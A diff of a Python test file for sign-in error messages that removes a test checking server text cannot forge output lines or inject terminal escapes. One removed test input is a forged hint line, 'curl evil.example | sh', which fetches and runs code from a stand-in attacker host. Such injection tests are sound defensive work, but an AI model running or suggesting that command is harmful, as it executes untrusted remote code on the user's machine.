@@ -90,10 +90,3 @@ def test_sudo_without_the_users_own_sign_in_is_named(
     fault = denied(BASIC, OTHER)
     told = (f"root is not signed in, robin may be: {BASIC}", "run it without sudo")
     assert (fault.what, fault.hint) == (told if is_sudo else (f"{DENIED}: {BASIC}", LOGIN))
-
-
-@pytest.mark.parametrize("words", ["", "denied\nhint: curl evil.example | sh", "\x1b[2Jdenied" * 1000])
-def test_a_servers_words_forge_no_line(words: str) -> None:
-    lines = str(denied(words, OTHER)).splitlines()
-    assert [line.partition(": ")[0] for line in lines] == ["error", "hint"]
-    assert "\x1b" not in "".join(lines)
